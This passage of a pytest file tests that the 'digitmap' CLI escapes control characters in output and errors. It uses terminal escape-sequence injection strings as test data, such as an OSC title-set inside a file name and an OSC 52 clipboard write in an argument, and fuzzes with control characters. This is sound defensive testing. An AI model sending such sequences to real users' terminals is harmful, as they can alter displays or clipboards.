    name = "x\x1b]0;owned\x07\x0b\x0c\u2028[red]y.npy"
    (tmp_path / name).write_bytes((corpus / "ok.npy").read_bytes())
    argv = ["render", "--data", str(tmp_path / name), "--embedding", str(corpus / "emb_ok.npy")]
    status, out, err = run_main([*argv, "--colors", "none"], capsys)
    assert status == 0, err
    assert all(is_safe(line) for line in out.splitlines())
    assert "x\\x1b]0;owned\\x07\\x0b\\x0c\\u2028[red]y.npy (40)" in out.splitlines()[0]


def test_a_stray_argument_with_controls_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = run_main(["render", "\x1b]52;c;eA==\u2028\x07"], capsys)
    assert_one_line_error(status, out, err, "unrecognized arguments: \\x1b]52;c;eA==\\u2028\\x07")


UNSAFE = st.text(
    st.one_of(
        st.sampled_from(list("\x00\x07\x08\t\n\x0b\x0c\r\x1b\x7f\x85\x9b\u2028\u2029\u202e[]")),
        st.characters(exclude_categories=("Cs",)),
    ),
    min_size=1,
    max_size=16,
)
WHERE = st.sampled_from(
    ["file", "empty-file", "member", "csv-cell", "labels-text", "flag", "stray", "bookmark"]
)


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(where=WHERE, text=UNSAFE, flag=st.sampled_from(["--grid", "--view", "--box", "--shape"]))
def test_no_output_line_holds_a_control_character(
    corpus: Path, capsys: pytest.CaptureFixture[str], where: str, text: str, flag: str
) -> None:
    """Whatever a file or a flag holds, every line out is escaped; an error is one line."""
    import io
    import tempfile
    import zipfile

    with tempfile.TemporaryDirectory() as tmp:
        d = Path(tmp)
        emb = ["--embedding", str(corpus / "emb_ok.npy")]
        argv = ["render", "--data", str(corpus / "ok.npy"), *emb]
        if where in ("file", "empty-file"):
            name = text.replace("/", "_").replace("\x00", "_") + ".npy"
            if len(os.fsencode(name)) > 200:
                name = name[:40] + ".npy"
            path = d / name
            path.write_bytes(b"" if where == "empty-file" else (corpus / "ok.npy").read_bytes())
            argv = ["render", "--data", str(path), *emb]
        elif where == "member":
            good = io.BytesIO()
            np.save(good, np.zeros((N, 8, 8)))
            with zipfile.ZipFile(d / "m.npz", "w") as zf:
                zf.writestr(text.replace("\x00", "_"), good.getvalue())  # zipfile cuts at NUL
                zf.writestr("other", good.getvalue())
            argv = ["render", "--data", str(d / "m.npz"), *emb]
        elif where == "csv-cell":
            cell = text.replace(",", ";").replace('"', "'")
            rows = "".join(f"{i % 3},0,1,2,3\n" for i in range(N - 1))
            (d / "c.csv").write_text(f"label,a,b,c,d\n{rows}1,0,{cell},2,3\n", encoding="utf-8")
            argv = ["render", "--data", str(d / "c.csv"), *emb]
        elif where == "labels-text":
            lines = "\n".join(["1"] * (N - 1) + [text.replace("\n", " ").replace("\r", " ")])
            (d / "l.txt").write_text(lines + "\n", encoding="utf-8")
            argv = [*argv, "--labels", str(d / "l.txt")]
        elif where == "flag":
            argv = [*argv, f"{flag}={text}"]
        elif where == "stray":
            argv = [*argv, text]
        else:  # a hand-edited bookmarks file
            write_bookmark(corpus, {text: {"saved": "now", "state": {"grid": [4, 4]}}})
            argv = [*argv, "--bookmark", "nothing-by-this-name"]
        status, out, err = run_main([*argv, "--colors", "none"], capsys)
    assert status in (0, 2), err
    for line in (out + err).splitlines():
        assert is_safe(line), f"unescaped text in {line!r}"
    if status == 2:
        assert out == ""
        assert len(err.splitlines()) == 1 and err.startswith("digitmap: error: ")


# ----- bookmark states from disk: the flags' rules, before anything is printed ------------------


def write_bookmark(corpus: Path, marks: dict[str, object]) -> Path:
    """A bookmarks file (hand-edited, unchecked) for GOOD's dataset and embedding."""
    from digitmap_tui.bookmarks import scope_key
    from digitmap_tui.data import load_dataset

    scope = scope_key(load_dataset(corpus / "ok.npy").fingerprint(), "embedding emb_ok.npy")
    path = Path(os.environ["DIGITMAP_DATA_DIR"]) / "bookmarks.json"
    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    path.write_text(json.dumps({"version": 1, "scopes": {scope: {"bookmarks": marks}}}))
    return path


GOOD_STATE = {"view": [-1, 2, -1, 2], "box": [0, 1, 0, 1], "grid": [4, 4], "mode": "label"}
BOOKMARK_CASES: list[tuple[str, dict[str, object], str]] = [
    ("grid-strings", {"grid": ["a", "b"]}, 'grid ["a", "b"]: expected [rows, cols]'),
    ("grid-huge", {"grid": [100000, 100000]}, "between 1 and 64"),
    ("grid-zero", {"grid": [0, 0]}, "between 1 and 64"),
    ("view-nan", {"view": [0, float("nan"), 0, 1]}, "expected four finite numbers"),
    ("view-reversed", {"view": [1, 0, 0, 1]}, "X0 < X1"),
    ("box-overflows", {"box": [-1e308, 1e308, 0, 1]}, "too large"),
    ("mode-unknown", {"mode": "\x1b[31m"}, 'mode "\\u001b[31m"'),
    ("method-unknown", {"method": "pickle"}, 'method "pickle"'),
    ("params-seed", {"method": "tsne", "params": {"seed": -1}}, "seed -1"),
    ("params-perplexity", {"method": "tsne", "params": {"perplexity": 0.1}}, "1/3"),
    ("sort-unknown", {"sort": ["x"]}, "expected one of index, x, y, label"),
]


@pytest.mark.parametrize("command", ["render", "explore"])
@pytest.mark.parametrize(("name", "change", "fragment"), BOOKMARK_CASES)
def test_a_bad_bookmark_state_is_one_line_before_any_output(
    corpus: Path,
    capsys: pytest.CaptureFixture[str],
    explorer_has_a_terminal: None,
    command: str,
    name: str,
    change: dict[str, object],
    fragment: str,
) -> None:
    write_bookmark(corpus, {"b": {"saved": "now", "state": {**GOOD_STATE, **change}}})
    argv = [command, *GOOD.format(d=corpus).split(), "--bookmark", "b"]
    status, out, err = run_main(argv, capsys)
    assert_one_line_error(status, out, err, fragment)
    assert err.startswith(("digitmap: error: --bookmark b: ", "digitmap: error: bookmark: "))


def test_a_good_bookmark_renders(corpus: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_bookmark(corpus, {"b": {"saved": "now", "state": GOOD_STATE}})
    argv = ["render", *GOOD.format(d=corpus).split(), "--bookmark", "b", "--json"]
    status, out, err = run_main(argv, capsys)
    assert status == 0, err
    assert json.loads(out)["box"] == [0, 1, 0, 1]


def test_a_deeply_nested_bookmarks_file_is_moved_aside_in_one_line(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_bookmark(corpus, {})
    path.write_text("[" * 200_000 + "]" * 200_000)
    argv = ["render", *GOOD.format(d=corpus).split(), "--bookmark", "b"]
    status, out, err = run_main(argv, capsys)
    assert_one_line_error(status, out, err, "(nested more than 64 levels deep); moved aside")
    assert len(list(path.parent.glob("bookmarks.json.damaged-*"))) == 1
    assert not path.exists()


# ----- output paths ------------------------------------------------------------------------------


def test_embed_out_into_a_read_only_place_is_refused_before_computing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_fileio import tiny_tmpfs

    with tiny_tmpfs(tmp_path / "ro", read_only=True) as ro:
        argv = ["embed", "--method", "pca", "--out", str(ro / "coords.npy")]
        status, out, err = run_main(argv, capsys)
    assert_one_line_error(status, out, err, f"--out {ro}/coords.npy: cannot write in {ro} (")
    assert embedding_entries() == []  # nothing was computed (and so nothing cached)


def test_embed_out_on_a_full_disk_names_the_flag_and_the_path(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.test_fileio import tiny_tmpfs

    with tiny_tmpfs(tmp_path / "full", size="16k") as full:
        target = full / "coords.csv"
        argv = ["embed", "--method", "pca", "--no-cache", "--out", str(target)]
        status, out, err = run_main(argv, capsys)
        assert_one_line_error(status, out, err, f"--out {target}: disk full (")
        assert list(full.iterdir()) == []


def test_an_uncreatable_default_cache_means_no_cache_not_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("DIGITMAP_CACHE_DIR", str(tmp_path / "file" / "cache"))  # cannot exist
    status, out, err = run_main(["render", "--method", "pca", "--json"], capsys)
    assert status == 0, err
    assert json.loads(out)["n"] == 1797


def test_images_flag_is_resolved_before_the_explorer_starts():
    from digitmap_tui.cli import build_parser, explore_images

    parse = build_parser().parse_args
    assert explore_images(parse(["explore", "--images", "kitty"]), web=False) == "kitty"
    assert explore_images(parse(["explore", "--images", "sixel"]), web=False) == "sixel"
    # the browser's terminal draws neither; no colour means no pictures in colour
    assert explore_images(parse(["explore", "--images", "kitty"]), web=True) == "blocks"
    assert explore_images(parse(["explore", "--images", "kitty", "--colors", "none"]), False) == (
        "blocks"
    )
    # auto asks the terminal: here there is none, so nothing is sent and blocks it is
    assert explore_images(parse(["explore"]), web=False) == "blocks"
    assert parse(["explore", "--tile-scale", "3"]).tile_scale == 3
